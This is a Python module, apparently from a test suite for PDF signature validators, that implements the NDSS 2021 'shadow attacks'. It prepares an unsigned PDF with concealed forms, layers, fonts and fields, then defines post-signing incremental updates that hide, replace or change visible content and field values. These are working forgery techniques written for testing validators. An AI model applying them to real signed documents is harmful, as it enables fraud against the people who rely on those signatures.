"""Shadow attacks: files that were prepared before they were signed, and what is done to them after.

Mainka, Mladenov, Rohlmann: Shadow Attacks - Hiding and Replacing Content in Signed PDFs, NDSS 2021.
"""

from __future__ import annotations

import io
import re

import pikepdf

from support.attacks_family import Family, Forge
from support.attacks_raw import EVIL, appended, body, reader, size, stream

SHADOW = Family("Shadow attacks", "NDSS 2021")

_END = rb">>$"


def prepared(data: bytes) -> bytes:
    """An unsigned file that was prepared for every kind of shadow attack before somebody signs it.

    It holds a form that overlays the page and one that is referenced but not shown, a second font, a
    layer, a text field, and content that no page shows.
    """
    with pikepdf.open(io.BytesIO(data)) as pdf:
        page = pdf.pages[0]
        form = {
            "/Type": pikepdf.Name.XObject,
            "/Subtype": pikepdf.Name.Form,
            "/BBox": pikepdf.Array([0, 0, 300, 300]),
        }
        layer = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.OCG, Name=b"Layer"))
        pdf.Root.OCProperties = pikepdf.Dictionary(
            OCGs=pikepdf.Array([layer]), D=pdf.make_indirect(pikepdf.Dictionary(OFF=pikepdf.Array([layer])))
        )
        for name, content in (
            ("/Overlay", b" "),
            ("/Hidden", EVIL),
            ("/Layered", b"/OC /L BDC " + EVIL + b" EMC"),
        ):
            made = pikepdf.Stream(pdf, content, form)
            if name == "/Layered":
                made["/Resources"] = pikepdf.Dictionary(Properties=pikepdf.Dictionary(L=layer))
            page.add_resource(pdf.make_indirect(made), pikepdf.Name.XObject, pikepdf.Name(name))
        font = pikepdf.Dictionary(
            Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica
        )
        page.add_resource(pdf.make_indirect(font), pikepdf.Name.Font, pikepdf.Name("/Shadow"))
        shown = b"q /Overlay Do Q q /Layered Do Q BT /Shadow 12 Tf 20 20 Td (100) Tj ET"
        page.contents_add(shown)
        field = pdf.make_indirect(
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot,
                Subtype=pikepdf.Name.Widget,
                FT=pikepdf.Name.Tx,
                T=b"amount",
                V=b"100",
                DA=b"/Helv 12 Tf",
                Rect=pikepdf.Array([10, 100, 200, 120]),
                AP=pikepdf.Dictionary(N=pikepdf.Stream(pdf, b" ", form)),
            )
        )
        page.obj.Annots = pdf.make_indirect(pikepdf.Array([field]))
        pdf.Root.AcroForm = pdf.make_indirect(
            pikepdf.Dictionary(
                Fields=pikepdf.Array([field]),
                DA=b"/Helv 12 Tf",
                DR=pikepdf.Dictionary(Font=pikepdf.Dictionary(Helv=font)),
            )
        )
        output = io.BytesIO()
        pdf.save(output, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return output.getvalue()


_FORM = b"/Type /XObject /Subtype /Form /BBox [0 0 300 300]"


def _shadowed(*path: str, value: bytes) -> Forge:
    """Redefine the object at a path from the catalogue, in a prepared file."""

    def forge(data: bytes) -> bytes:
        thing = reader(data).root
        for step in path[:-1]:
            thing = thing[int(step) if step.isdigit() else step]
        last = int(path[-1]) if path[-1].isdigit() else path[-1]
        return appended(data, {int(thing.raw_get(last).idnum): value})

    return forge


_RESOURCES = ("/Pages", "/Kids", "0", "/Resources")
_FIELD = ("/AcroForm", "/Fields", "0")
SHADOW.add("hide: overlay form", _shadowed(*_RESOURCES, "/XObject", "/Overlay", value=stream(EVIL, _FORM)))
SHADOW.add("hide: referenced object freed", _shadowed(*_RESOURCES, "/XObject", "/Overlay", value=b"null"))
SHADOW.add(
    "replace: font",
    _shadowed(
        *_RESOURCES,
        "/Font",
        "/Shadow",
        value=b"<< /Type /Font /Subtype /Type1 /BaseFont /ZapfDingbats >>",
    ),
)
SHADOW.add("replace: layer on", _shadowed("/OCProperties", "/D", value=b"<< /BaseState /ON >>"))
SHADOW.add(
    "replace: layer's name", _shadowed("/OCProperties", "/OCGs", "0", value=b"<< /Type /OCG /Name (x) >>")
)
SHADOW.add("replace: appearance of a field", _shadowed(*_FIELD, "/AP", "/N", value=stream(EVIL, _FORM)))


def _field(data: bytes, pattern: bytes, other: bytes, more: dict[int, bytes] | None = None) -> bytes:
    number = int(reader(data).root["/AcroForm"]["/Fields"].raw_get(0).idnum)
    new = re.sub(pattern, lambda _: other, body(data, number), count=1, flags=re.DOTALL)
    assert new != body(data, number)
    return appended(data, {number: new, **(more or {})})


def _form(data: bytes, pattern: bytes, other: bytes) -> bytes:
    number = int(reader(data).root.raw_get("/AcroForm").idnum)
    new = re.sub(pattern, lambda _: other, body(data, number), count=1, flags=re.DOTALL)
    assert new != body(data, number)
    return appended(data, {number: new})


@SHADOW
def replace_value_of_a_field(data: bytes) -> bytes:
    """The value that is exported is another."""
    return _field(data, rb"/V \([^)]*\)", b"/V (9000000)")


@SHADOW
def replace_value_and_appearance(data: bytes) -> bytes:
    """Value and appearance are others."""
    new = size(data) + 1
    return _field(data, rb"/AP <<.*?>>", b"/AP << /N %d 0 R >>" % new, {new: stream(EVIL, _FORM)})


@SHADOW
def field_becomes_hidden(data: bytes) -> bytes:
    """A flag hides the field."""
    return _field(data, _END, b"/F 2 >>")


@SHADOW
def field_gets_white_text(data: bytes) -> bytes:
    """The default appearance writes white on white."""
    return _field(data, rb"/DA \([^)]*\)", b"/DA (/Helv 12 Tf 1 g)")


@SHADOW
def field_becomes_read_only(data: bytes) -> bytes:
    """The field's flags are changed."""
    return _field(data, _END, b"/Ff 1 >>")


@SHADOW
def appearances_are_to_be_made_anew(data: bytes) -> bytes:
    """The reader is told to draw all fields from their values."""
    return _form(data, _END, b"/NeedAppearances true >>")


@SHADOW
def all_fields_get_white_text(data: bytes) -> bytes:
    """The form's default appearance writes white on white, and all fields are to be drawn anew."""
    return _form(data, rb"/DA \([^)]*\)", b"/DA (1 g) /NeedAppearances true")


@SHADOW
def fields_get_another_font(data: bytes) -> bytes:
    """The form's resources name a font with other letters."""
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /ZapfDingbats >>"
    evil = b"/DR << /Font << /Helv %s >> >> /NeedAppearances true" % font
    return _form(data, rb"/DR [^/]+", evil)


@SHADOW
def form_becomes_xfa(data: bytes) -> bytes:
    """The form gets an XFA description, which some readers show instead of the pages."""
    return _form(data, _END, b"/XFA (<xdp/>) >>")


@SHADOW
def order_of_calculation(data: bytes) -> bytes:
    """Fields are to be calculated."""
    return _form(data, _END, b"/CO [] >>")
